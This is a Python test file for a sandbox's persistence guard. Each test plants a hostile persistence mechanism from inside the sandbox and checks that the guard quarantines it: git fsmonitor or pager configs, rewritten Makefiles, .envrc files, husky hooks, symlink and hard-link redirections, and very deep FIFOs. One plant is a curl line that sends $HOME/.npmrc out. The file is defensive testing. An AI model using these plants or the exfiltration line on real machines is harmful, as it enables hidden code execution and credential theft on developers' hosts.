"""The persistence guard against what a black-box attack found it missed (every backend): a nested
`.git` whose config git runs at the host's next `git status`, make's other spellings, a link in
git's hooksPath that the guard must move rather than follow, a restore through a link planted
later, and a FIFO hidden deeper than a path can reach."""
from __future__ import annotations

import os
import stat
import subprocess
from pathlib import Path

from .helpers import PY, Runs
from .test_persistence_guard import git, husky_project, quarantines


def _state() -> Path:
    return Path(os.environ["SBOX_STATE_DIR"])


def test_a_nested_git_repository_the_sandbox_creates_is_quarantined(runs: Runs, tmp_path: Path) -> None:
    root = husky_project(tmp_path)
    pwned = tmp_path / "fsmonitor-ran"
    plant = (f"mkdir -p packages/web && cd packages/web && git init -q . && "
             f"printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' >> .git/config && "
             f"mkdir -p ../../deep/er && printf 'echo x\\n' > ../../deep/er/.envrc")
    result = runs.run(root, "sh", "-c", plant)
    assert result.returncode == 0, result.stderr
    assert "quarantined packages/web/.git (created by the sandbox" in result.stderr, result.stderr
    assert "quarantined deep/er/.envrc (created by the sandbox" in result.stderr, result.stderr
    assert not (root / "packages" / "web" / ".git").exists() and not (root / "deep" / "er" / ".envrc").exists()
    # The host's next `git status` there runs nothing planted ...
    subprocess.run(["git", "status"], cwd=root / "packages" / "web", capture_output=True, timeout=60,
                   env=dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1"))
    assert not pwned.exists()
    # ... while the same repository made on the host (the live control) does run it.
    control = tmp_path / "control"
    control.mkdir()
    git(control, "init", "-q")
    with open(control / ".git" / "config", "a") as f:
        f.write(f'[core]\n\tfsmonitor = "touch {pwned}"\n')
    subprocess.run(["git", "status"], cwd=control, capture_output=True, timeout=60,
                   env=dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1"))
    assert pwned.exists()


def test_a_nested_project_and_repository_moved_away_and_back_are_still_watched(runs: Runs, tmp_path: Path) -> None:
    """Red team 8: one step moves a nested project (its own sbox.yaml) and a nested repository out
    of the way; the next moves them back and rewrites their Makefiles. Each step's guard watched
    them only where they were at its start, so neither write was seen, and the host's `make`
    there ran the plants. The step's end is looked at where they are then."""
    root = husky_project(tmp_path)
    web, lib = root / "packages" / "web", root / "lib"
    web.mkdir(parents=True)
    (web / "sbox.yaml").write_text("version: 1\n")
    lib.mkdir()
    git(lib, "init", "-q")
    for d in (web, lib):
        (d / "Makefile").write_text("all:\n\t@echo host\n")
    first = runs.run(root, "sh", "-c", "mv packages packages.tmp")
    assert first.returncode == 0, first.stderr
    # a repository is pinned in every sandbox that writes the project (red team 9): no step moves it
    refused = runs.run(root, "sh", "-c", "mv lib lib.tmp")
    assert refused.returncode != 0 and "Device or resource busy" in refused.stderr, refused.stderr
    assert (lib / ".git").is_dir() and not (root / "lib.tmp").exists()
    plant = ("mv packages.tmp packages && "
             "printf 'all:\\n\\t@echo PWNED\\n' | tee packages/web/Makefile > lib/Makefile")
    second = runs.run(root, "sh", "-c", plant)
    assert second.returncode == 0, second.stderr
    assert "quarantined packages/web/Makefile" in second.stderr, second.stderr
    assert "quarantined lib/Makefile" in second.stderr, second.stderr
    for d in (web, lib):
        assert not (d / "Makefile").exists() or "PWNED" not in (d / "Makefile").read_text()


def test_a_bare_repository_kept_in_the_project_is_watched(runs: Runs, tmp_path: Path) -> None:
    """Red team 8: a bare repository kept as a test fixture is a git directory whose config and
    hooks git runs when you work in it (`git branch` there reads `core.pager`); only its HEAD was
    looked at. A step that rewrites its config and adds a hook has both quarantined, the config
    put back."""
    root = husky_project(tmp_path)
    bare = root / "tests" / "fixtures" / "repo.git"
    bare.parent.mkdir(parents=True)
    subprocess.run(["git", "init", "-q", "--bare", str(bare)], check=True, capture_output=True)
    before = (bare / "config").read_text()
    pwned = tmp_path / "pager-ran"
    plant = (f"printf '[core]\\n\\tpager = touch {pwned}; cat\\n' >> tests/fixtures/repo.git/config && "
             "printf '#!/bin/sh\\ntouch /tmp/x\\n' > tests/fixtures/repo.git/hooks/post-update && "
             "chmod +x tests/fixtures/repo.git/hooks/post-update")
    result = runs.run(root, "sh", "-c", plant)
    assert result.returncode == 0, result.stderr
    assert "quarantined tests/fixtures/repo.git/config (changed by the sandbox" in result.stderr, result.stderr
    assert "quarantined tests/fixtures/repo.git/hooks/post-update (created" in result.stderr, result.stderr
    assert (bare / "config").read_text() == before and not (bare / "hooks" / "post-update").exists()


def test_every_spelling_make_reads_is_quarantined(runs: Runs, tmp_path: Path) -> None:
    root = husky_project(tmp_path)
    (root / "Makefile").write_text("all:\n\t@echo ok\n")
    result = runs.run(root, "sh", "-c", "printf 'all:\\n\\t@echo PWNED\\n' | tee GNUmakefile > makefile")
    assert result.returncode == 0, result.stderr
    assert not (root / "GNUmakefile").exists() and not (root / "makefile").exists()
    out = subprocess.run(["make", "-s"], cwd=root, capture_output=True, text=True, timeout=60).stdout \
        if subprocess.run(["sh", "-c", "command -v make"], capture_output=True).returncode == 0 else "ok\n"
    assert out == "ok\n"


def test_a_link_in_the_hooks_path_is_moved_never_followed(runs: Runs, tmp_path: Path) -> None:
    root = husky_project(tmp_path)
    git(root, "config", "core.hooksPath", "tools/hooks")  # tools/ does not exist yet
    victim = tmp_path / "victim"
    (victim / "hooks").mkdir(parents=True)
    (victim / "hooks" / "keep.txt").write_text("precious\n")
    result = runs.run(root, "sh", "-c", f"ln -s {victim} tools")
    assert result.returncode == 0, result.stderr
    assert (victim / "hooks" / "keep.txt").read_text() == "precious\n"  # the host's files stay put
    assert not os.path.lexists(root / "tools")  # the planted link itself is what moved
    assert "quarantined tools (created by the sandbox" in result.stderr, result.stderr


def test_restore_never_goes_through_a_link_planted_later(runs: Runs, tmp_path: Path, sbox_bin: str) -> None:
    root = husky_project(tmp_path)
    victim = tmp_path / "victim"
    victim.mkdir()
    first = runs.run(root, "sh", "-c", "mkdir x && mkfifo x/ff")
    assert "quarantined x/ff" in first.stderr, first.stderr
    ident = str(quarantines(_state())[0]["id"])
    runs.run(root, "sh", "-c", f"rm -rf x && ln -s {victim} x")
    assert os.path.islink(root / "x")
    restore = subprocess.run([sbox_bin, "quarantine", "restore", ident], cwd=root, capture_output=True,
                             text=True, timeout=60)
    assert restore.returncode == 1 and "not a real directory" in restore.stderr, restore.stderr
    assert list(victim.iterdir()) == []


def test_a_fifo_deeper_than_a_path_reaches_is_still_moved(runs: Runs, tmp_path: Path) -> None:
    root = husky_project(tmp_path)
    # 25 levels of 200-character names: deeper than PATH_MAX (4096) reaches, shallow enough for
    # any tool to remove afterwards.
    deep = ("import os\nos.mkdir('f'); os.chdir('f')\n"
            "for i in range(25):\n    os.mkdir('d' * 200); os.chdir('d' * 200)\nos.mkfifo('fifo')\n")
    result = runs.run(root, PY, "-c", deep)
    assert result.returncode == 0, result.stderr
    assert "quarantined f/ddd" in result.stderr, result.stderr  # the part no path reaches, moved whole
    q = quarantines(_state())
    moved = [str(e["path"]) for e in q[0]["entries"]]  # type: ignore[union-attr]
    assert len(moved) == 1 and moved[0].startswith("f/ddd")
    # What is left in the project is shallow enough to walk: no FIFO in it.
    left = [os.path.join(d, n) for d, _, names in os.walk(root / "f") for n in names]
    assert not any(stat.S_ISFIFO(os.lstat(p).st_mode) for p in left)


def test_a_fifo_whose_path_no_quarantine_could_take_is_moved_from_higher_up(runs: Runs, tmp_path: Path) -> None:
    """Red team 8: the walk reaches a FIFO 40 levels of 255-character names down (10,000
    characters), but a path that long cannot be moved as it is: the check failed, its walk had
    kept the index, and no later step looked there again. An ancestor is moved whole instead."""
    root = husky_project(tmp_path)
    deep = ("import os\nos.mkdir('f'); os.chdir('f')\n"
            "for i in range(40):\n    os.mkdir('d' * 255); os.chdir('d' * 255)\nos.mkfifo('p' * 255)\n")
    result = runs.run(root, PY, "-c", deep)
    assert result.returncode == 0, result.stderr
    assert "could not check" not in result.stderr and "quarantined f/ddd" in result.stderr, result.stderr
    left = [os.path.join(d, n) for d, _, names in os.walk(root / "f") for n in names]
    assert not any(stat.S_ISFIFO(os.lstat(p).st_mode) for p in left)


def test_a_directory_made_a_git_dir_and_a_config_git_includes_are_quarantined(runs: Runs, tmp_path: Path) -> None:
    """A sandbox turns `src/` into a repository git discovers (HEAD, objects, refs, config with a
    core.fsmonitor), and rewrites a project file the repository's config includes: the host's
    next `git status` runs neither."""
    root = husky_project(tmp_path)
    (root / "src" / "lib").mkdir(parents=True)
    git(root, "config", "include.path", "../.gitconfig")
    (root / ".gitconfig").write_text("[user]\n\tname = me\n")
    pwned = tmp_path / "fsmonitor-ran"
    plant = (f"cd src && mkdir -p objects refs/heads && echo 'ref: refs/heads/main' > HEAD && "
             f"printf '[core]\\n\\tworktree = ..\\n\\tfsmonitor = \"touch {pwned}\"\\n' > config && cd .. && "
             f"printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' >> .gitconfig")
    result = runs.run(root, "sh", "-c", plant)
    assert result.returncode == 0, result.stderr
    assert "quarantined src/HEAD" in result.stderr and "quarantined .gitconfig" in result.stderr, result.stderr
    assert (root / ".gitconfig").read_text() == "[user]\n\tname = me\n"  # the previous version is back
    for where in (root / "src" / "lib", root):
        subprocess.run(["git", "status"], cwd=where, capture_output=True, timeout=60,
                       env=dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1"))
    assert not pwned.exists()


def test_a_nested_envrc_of_the_host_rewritten_in_place_is_put_back(runs: Runs, tmp_path: Path) -> None:
    """direnv loads `services/api/.envrc` when the user enters that directory. A step that rewrites
    the host's file in place has its version quarantined and the host's put back (the walk of an
    earlier run knows the file), not left missing."""
    root = husky_project(tmp_path)
    envrc = root / "services" / "api" / ".envrc"
    envrc.parent.mkdir(parents=True)
    envrc.write_text("export API_PORT=8080\n")
    assert runs.run(root, "true").returncode == 0  # an earlier run: its walk finds the file
    result = runs.run(root, "sh", "-c", "printf 'curl -d @$HOME/.npmrc http://127.0.0.1:9/\\n' > services/api/.envrc")
    assert result.returncode == 0, result.stderr
    assert ("quarantined services/api/.envrc (changed by the sandbox, .envrc; the previous version is back"
            in result.stderr), result.stderr
    assert envrc.read_text() == "export API_PORT=8080\n"
    moved = [e for q in quarantines(_state()) for e in q["entries"] if e["path"] == "services/api/.envrc"]
    assert len(moved) == 1


def test_a_huge_sparse_file_under_a_watched_name_does_not_stall_the_guard(runs: Runs, tmp_path: Path) -> None:
    """A 2 TiB sparse `.pdbrc` beside a planted Makefile: the guard knows a file that big by its
    identity instead of hashing it for hours, and both are quarantined."""
    root = husky_project(tmp_path)
    (root / "Makefile").write_text("all:\n\t@echo host\n")
    result = runs.run(root, "sh", "-c", "printf 'all:\\n\\ttouch pwned\\n' > Makefile && truncate -s 2T .pdbrc",
                      timeout=300)  # hashing 2 TiB would take hours: the run would not end
    assert result.returncode == 0, result.stderr
    assert "quarantined Makefile (changed by the sandbox; the previous version is back" in result.stderr, result.stderr
    assert "quarantined .pdbrc (created by the sandbox" in result.stderr, result.stderr
    assert (root / "Makefile").read_text() == "all:\n\t@echo host\n" and not (root / ".pdbrc").exists()


def test_a_signal_as_the_step_ends_does_not_skip_the_guard(runs: Runs, tmp_path: Path) -> None:
    """^C (SIGINT) sent over and over as the step ends, while the guard hashes a big watched file:
    the guard finishes first, the plant is quarantined, and sbox then ends as the signal says."""
    import signal
    import time

    root = husky_project(tmp_path)
    (root / "Makefile").write_text("all:\n\t@echo host\n")
    proc = runs.start(root, "sh", "-c", "head -c 60000000 /dev/zero > .pdbrc && "
                                        "printf 'all:\\n\\ttouch pwned\\n' > Makefile && touch planted")
    end = time.monotonic() + 120
    while not (root / "planted").exists() and proc.poll() is None and time.monotonic() < end:
        time.sleep(0.01)
    while proc.poll() is None and time.monotonic() < end:
        proc.send_signal(signal.SIGINT)
        time.sleep(0.005)
    _, err = proc.communicate(timeout=60)
    if "quarantined Makefile" not in err:  # the signal cut in before the check began: the next step makes it
        err = runs.run(root, "true").stderr
        assert "ended before its persistence check; checked now:" in err, err
    assert "quarantined Makefile (changed by the sandbox; the previous version is back" in err, err
    assert (root / "Makefile").read_text() == "all:\n\t@echo host\n"
    assert not (root / ".pdbrc").exists()


def _included_config_project(tmp_path: Path) -> tuple[Path, Path]:
    root = husky_project(tmp_path)
    git(root, "config", "include.path", "../.gitconfig")
    (root / ".gitconfig").write_text("[user]\n\tname = me\n")
    return root, tmp_path / "fsmonitor-ran"


def _host_git_status(root: Path) -> None:
    subprocess.run(["git", "status"], cwd=root, capture_output=True, timeout=60,
                   env=dict(os.environ, GIT_CONFIG_GLOBAL="/dev/null", GIT_CONFIG_NOSYSTEM="1"))


def test_an_include_the_sandbox_makes_huge_does_not_break_the_guard(runs: Runs, tmp_path: Path) -> None:
    """Red team 3: a step adds to the included .gitconfig a core.fsmonitor and an include of a
    50 GB sparse file (behind an includeIf git itself skips). Reading that file for the includes it
    names exhausted the guard's memory: a traceback, the plant kept, and the host's next
    `git status` ran it. The guard reads no config over 1 MiB: the plant is quarantined."""
    root, pwned = _included_config_project(tmp_path)
    plant = (f"truncate -s 50G big && printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n"
             "[includeIf \"gitdir:/nonexistent/\"]\\n\\tpath = big\\n' >> .gitconfig")
    control = tmp_path / "control"  # the live control: the same config makes the host's git run it
    subprocess.run(["cp", "-a", str(root), str(control)], check=True)
    (control / ".gitconfig").write_text(f"[core]\n\tfsmonitor = \"touch {pwned}\"\n")
    _host_git_status(control)
    assert pwned.exists()
    pwned.unlink()

    result = runs.run(root, "sh", "-c", plant, timeout=300)
    assert result.returncode == 0, result.stderr
    assert "Traceback" not in result.stderr, result.stderr
    assert "quarantined .gitconfig" in result.stderr, result.stderr
    assert (root / ".gitconfig").read_text() == "[user]\n\tname = me\n"
    _host_git_status(root)
    assert not pwned.exists()
    assert runs.run(root, "true").returncode == 0  # and the next run plans as usual


def test_an_include_the_sandbox_makes_a_fifo_does_not_hang_the_guard(runs: Runs, tmp_path: Path) -> None:
    """Red team 3: the included .gitconfig replaced by a FIFO held the guard in open() for ever
    (^C retried it); the FIFO, a planted .envrc and a nested repository stayed on the host."""
    root, pwned = _included_config_project(tmp_path)
    plant = ("rm .gitconfig && mkfifo .gitconfig && echo 'echo pwned' > .envrc && mkdir -p evil && cd evil && "
             f"git init -q && git config core.fsmonitor 'touch {pwned}'")
    result = runs.run(root, "sh", "-c", plant, timeout=120)
    assert result.returncode == 0, result.stderr
    assert "quarantined .gitconfig" in result.stderr and "quarantined .envrc" in result.stderr, result.stderr
    assert (root / ".gitconfig").read_text() == "[user]\n\tname = me\n" and not (root / ".envrc").exists()
    assert not (root / "evil" / ".git").exists()


def test_a_plant_too_deep_to_copy_to_a_quarantine_elsewhere_leaves_no_other_plant(runs: Runs, tmp_path: Path) -> None:
    """Red team 4: with sbox's state on another filesystem than the project, a planted `.vscode`
    1,200 directories deep could not be copied into the quarantine (a path too long); the pass
    stopped there, the planted Makefile stayed (make ran it), and every later run failed the same
    way. Each entry is tried; the one that cannot be copied is renamed beside itself."""
    from tests.support.trust import trust

    shm = Path("/dev/shm")
    if not shm.is_dir() or shm.stat().st_dev == tmp_path.stat().st_dev:
        import pytest

        pytest.skip("no second filesystem (/dev/shm) here for sbox's state")
    state = Path(__import__("tempfile").mkdtemp(prefix="sbox-guard-state-", dir=shm))
    try:
        env = dict(os.environ, SBOX_STATE_DIR=str(state))
        root = husky_project(tmp_path)
        trust(root / "sbox.yaml", env=env)
        (root / "Makefile").write_text("all:\n\t@echo host\n")
        pwned = tmp_path / "make-ran"
        plant = (f"import os\nopen('Makefile', 'w').write('all:\\n\\ttouch {pwned}\\n')\nos.mkdir('.vscode')\n"
                 "open('.vscode/settings.json', 'w').write('{}')\nos.chdir('.vscode')\n"
                 "for _ in range(1200):\n    os.mkdir('aaaaaaaaaa')\n    os.chdir('aaaaaaaaaa')\n")
        result = runs.run(root, PY, "-c", plant, env=env, timeout=300)
        assert "quarantined Makefile (changed by the sandbox; the previous version is back" in result.stderr, \
            result.stderr[-3000:]
        assert (root / "Makefile").read_text() == "all:\n\t@echo host\n"
        assert not (root / ".vscode").exists() and list(root.glob(".vscode.sbox-quarantined-*")), result.stderr[-3000:]
        assert "quarantined .vscode (created by the sandbox) as .vscode.sbox-quarantined-" in result.stderr
        assert "quarantined .vscode/settings.json (created by the sandbox) as .vscode.sbox-quarantined-" in result.stderr
        assert "could not be copied into sbox's quarantine" in result.stderr and "restore .vscode" not in result.stderr, result.stderr
        subprocess.run(["make"], cwd=root, capture_output=True, timeout=60)
        assert not pwned.exists()
        again = runs.run(root, "true", env=env)
        assert again.returncode == 0, again.stderr  # the next run is not held up by it
    finally:
        from tests.support import deeptree

        for deep in [*tmp_path.glob("project/.vscode*"), state]:
            deeptree.remove(str(deep))


def test_a_directory_a_configured_path_climbs_out_of_made_a_link_is_moved(runs: Runs, tmp_path: Path) -> None:
    """Red team 4: git and make resolve `sub/../a.inc` through `sub`; read as text it is `a.inc`.
    A step that makes `sub` a link sent the host's git to an include it planted (core.fsmonitor
    ran at `git status`) and make to a planted `local.mk`. The link is what is quarantined."""
    root, pwned = _included_config_project(tmp_path)
    git(root, "config", "--unset", "include.path")
    git(root, "config", "include.path", "../sub/../a.inc")
    (root / "Makefile").write_text("-include build/../local.mk\nall:\n\t@echo host\n")
    made = tmp_path / "make-ran"
    plant = ("mkdir -p zz/yy && ln -s zz/yy sub && "
             f"printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n' > zz/a.inc && "
             f"mkdir -p mk/in && ln -s mk/in build && echo 'X := $(shell touch {made})' > mk/local.mk")
    control = tmp_path / "control"  # the live control: the same plant, made directly, runs on the host
    subprocess.run(["cp", "-a", str(root), str(control)], check=True)
    subprocess.run(["sh", "-c", plant], cwd=control, check=True)
    _host_git_status(control)
    subprocess.run(["make", "-s"], cwd=control, capture_output=True, timeout=60)
    assert pwned.exists() and made.exists()
    pwned.unlink()
    made.unlink()

    result = runs.run(root, "sh", "-c", plant)
    assert result.returncode == 0, result.stderr
    assert "quarantined sub (created by the sandbox" in result.stderr, result.stderr
    assert "quarantined build (created by the sandbox" in result.stderr, result.stderr
    _host_git_status(root)
    subprocess.run(["make", "-s"], cwd=root, capture_output=True, timeout=60)
    assert not pwned.exists() and not made.exists()


def test_a_hard_link_a_step_makes_to_a_watched_file_leaves_the_host_s_file_its_own(runs: Runs, tmp_path: Path) -> None:
    """Red team 4: a step hard-links the Makefile into a nested project (`ln Makefile
    sub/.cachefile`), changing nothing; a later step there, whose guard watches only the nested
    tree, rewrites that name, and with it the host's Makefile. The link is seen as the step ends:
    the Makefile is moved and put back as a file of its own."""
    from tests.support.trust import trust

    root = husky_project(tmp_path)
    (root / "Makefile").write_text("all:\n\t@echo host\n")
    (root / "sub").mkdir()
    (root / "sub" / "sbox.yaml").write_text("version: 1\n")
    trust(root / "sub" / "sbox.yaml")
    made = tmp_path / "make-ran"
    rewrite = f"printf 'all:\\n\\ttouch {made}\\n' > .cachefile"
    control = tmp_path / "control"  # the live control: the same two steps, made directly
    subprocess.run(["cp", "-a", str(root), str(control)], check=True)
    subprocess.run(["ln", "Makefile", "sub/.cachefile"], cwd=control, check=True)
    subprocess.run(["sh", "-c", rewrite], cwd=control / "sub", check=True)
    subprocess.run(["make", "-s"], cwd=control, capture_output=True, timeout=60)
    assert made.exists()
    made.unlink()

    first = runs.run(root, "ln", "Makefile", "sub/.cachefile")
    assert first.returncode == 0, first.stderr
    assert "quarantined Makefile (changed by the sandbox, a hard link was made to it; the previous version is back" \
        in first.stderr, first.stderr
    second = runs.run(root / "sub", "sh", "-c", rewrite)
    assert second.returncode == 0, second.stderr
    subprocess.run(["make", "-s"], cwd=root, capture_output=True, timeout=60)
    assert not made.exists() and (root / "Makefile").read_text() == "all:\n\t@echo host\n"


def test_a_watched_directory_thousands_of_levels_deep_is_still_quarantined(runs: Runs, tmp_path: Path) -> None:
    """Red team 5: a planted .husky/pre-commit beside 3,000 nested directories made the guard's
    walk exceed Python's recursion limit: the check failed and the hook stayed (git commit ran it).
    The walk is iterative; the directory is moved whole."""
    from tests.support import deeptree

    root = husky_project(tmp_path)
    pwned = tmp_path / "hook-ran"
    plant = ("import os\nos.makedirs('.husky/_')\n"
             f"open('.husky/pre-commit', 'w').write('#!/bin/sh\\ntouch {pwned}\\n')\nos.chmod('.husky/pre-commit', 0o755)\n"
             "os.chdir('.husky')\nfor _ in range(3000):\n    os.mkdir('d')\n    os.chdir('d')\n")
    try:
        result = runs.run(root, PY, "-c", plant, timeout=300)
        assert result.returncode == 0, result.stderr[-2000:]
        assert "RecursionError" not in result.stderr and "quarantined .husky" in result.stderr, result.stderr[-2000:]
        assert not (root / ".husky").exists()
    finally:
        for deep in [*root.glob(".husky*"), Path(os.environ["SBOX_STATE_DIR"]) / "quarantine"]:
            if deep.exists():
                deeptree.remove(str(deep))


def test_a_host_file_with_two_names_whose_other_name_a_step_swaps_is_put_back(runs: Runs, tmp_path: Path) -> None:
    """Red team 5: the host's Makefile already had a second name (docs/Makefile.bak); a step
    removed that and made sub/mk instead: the count stayed 2, nothing was seen, and a nested
    project's step then rewrote the Makefile through sub/mk."""
    from tests.support.trust import trust

    root = husky_project(tmp_path)
    (root / "Makefile").write_text("all:\n\t@echo host\n")
    (root / "docs").mkdir()
    os.link(root / "Makefile", root / "docs" / "Makefile.bak")
    (root / "sub").mkdir()
    (root / "sub" / "sbox.yaml").write_text("version: 1\n")
    trust(root / "sub" / "sbox.yaml")
    made = tmp_path / "make-ran"
    first = runs.run(root, "sh", "-c", "rm docs/Makefile.bak && ln Makefile sub/mk")
    assert "quarantined Makefile (changed by the sandbox, a hard link was made to it" in first.stderr, first.stderr
    second = runs.run(root / "sub", "sh", "-c", f"printf 'all:\\n\\ttouch {made}\\n' > mk")
    assert second.returncode == 0, second.stderr
    subprocess.run(["make", "-s"], cwd=root, capture_output=True, timeout=60)
    assert not made.exists() and (root / "Makefile").read_text() == "all:\n\t@echo host\n"


def test_a_path_that_climbs_out_through_a_link_is_resolved_as_git_resolves_it(runs: Runs, tmp_path: Path) -> None:
    """Red team 5: with `s -> real/in`, `include.path = ../s/../a.inc` is real/a.inc to git. A step
    that made `real` a link to its own directory sent git there; one that writes real/a.inc
    writes what git includes. Both are quarantined."""
    root, pwned = _included_config_project(tmp_path)
    git(root, "config", "--unset", "include.path")
    git(root, "config", "include.path", "../s/../a.inc")
    (root / "real" / "in").mkdir(parents=True)
    (root / "s").symlink_to("real/in")
    fsmonitor = f"printf '[core]\\n\\tfsmonitor = \"touch {pwned}\"\\n'"
    control = tmp_path / "control"  # the live control: the same plant, made directly, runs on the host
    subprocess.run(["cp", "-a", str(root), str(control)], check=True)
    subprocess.run(["sh", "-c", f"{fsmonitor} > real/a.inc"], cwd=control, check=True)
    _host_git_status(control)
    assert pwned.exists()
    pwned.unlink()

    relinked = runs.run(root, "sh", "-c", f"rm -rf real && mkdir -p evil/in && {fsmonitor} > evil/a.inc && ln -s evil real")
    assert "quarantined real (changed by the sandbox" in relinked.stderr, relinked.stderr
    written = runs.run(root, "sh", "-c", f"{fsmonitor} > real/a.inc")
    assert "quarantined real/a.inc (created by the sandbox" in written.stderr, written.stderr
    _host_git_status(root)
    assert not pwned.exists()
